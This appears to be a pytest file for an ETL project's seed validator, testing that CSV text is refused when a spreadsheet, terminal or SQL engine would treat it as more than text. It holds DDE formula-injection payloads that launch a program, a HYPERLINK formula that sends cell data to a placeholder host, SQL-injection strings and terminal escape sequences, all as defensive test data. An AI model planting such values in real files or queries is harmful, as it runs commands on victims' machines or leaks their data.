"""Text in seeds that a spreadsheet, a terminal or SQL could take for more than text is refused, or stays text."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pandas as pd
import pytest

from etl.project import find_project
from etl.seeds.check import check_frame, load_seeds
from etl.seeds.contract import Contract, load_contracts
from tests.conftest import ROOT, RunCli
from tests.faults.test_bad_seeds import edit, set_cell

BAD_INPUT = 3
EVENTS = "seeds/articles/zhang2024/zhang2024__events.csv"
FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://host.example?"&A1)',
    "@SUM(A1)",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "-A1",
]
HIDDEN = ["a\tb", "a\nb", "a\rb", "a\x1b[2Jb", "a\x7fb", "a\x85b", "a\u202eb", "a\u200bb", "a\u2066b", "\x07"]
PLAIN = [
    "-",
    "--",
    "-----",
    "-3.5",
    "+1.2",
    "-1,234",
    "-5%",
    "—",
    "−3",
    "a=b",
    "1+1",
    "x@y",
    "'; drop table x; --",
    '"',
]


@cache
def events() -> tuple[Contract, pd.DataFrame]:
    frames, _ = load_seeds(find_project(ROOT))
    return load_contracts(ROOT / "expectations" / "seeds")["events"], frames["events"].head(1)


def problems(value: str) -> list[str]:
    """What the contract of a text column says of a value."""
    contract, event = events()
    frame = event.assign(title_en=value)
    return [fault.problem for fault in check_frame(frame, contract, {"events": frame})]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_refused(value: str) -> None:
    assert problems(value) == ["begins like a formula, and a spreadsheet would run it"]


@pytest.mark.parametrize("value", HIDDEN, ids=ascii)
def test_what_does_not_show_is_refused(value: str) -> None:
    assert problems(value) == ["holds a character that does not show"]


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_none_of_these(value: str) -> None:
    assert problems(value) == []


def test_the_command_names_the_place_and_prints_no_control_character(project_copy: Path, cli: RunCli) -> None:
    edit(project_copy / EVENTS, set_cell(2, "title_en", "=1+1"))
    edit(project_copy / EVENTS, set_cell(3, "title_en", "red \x1b[31malert"))
    edit(project_copy / EVENTS, set_cell(4, "title_en", "x'); drop table seeds; --"))  # no fault: it is text
    done = cli("check-seeds", "--project", str(project_copy))
    assert done.returncode == BAD_INPUT
    assert f"{EVENTS}:3 [title_en] begins like a formula" in done.stderr
    assert f"{EVENTS}:4 [title_en] holds a character that does not show: '\\x1b'" in done.stderr
    assert "2 fault(s)" in done.stderr
    assert "\x1b" not in done.stderr


def test_a_release_holds_nothing_that_opens_in_a_spreadsheet(warehouse: Path) -> None:
    """Only `etl.export` writes such files, and keeps formulas in landed names from running."""
    suffixes = {path.suffix for path in (warehouse / "releases").rglob("*") if path.is_file()}
    assert ".parquet" in suffixes
    assert suffixes & {".csv", ".tsv", ".txt", ".xlsx", ".xls", ".ods"} == set()
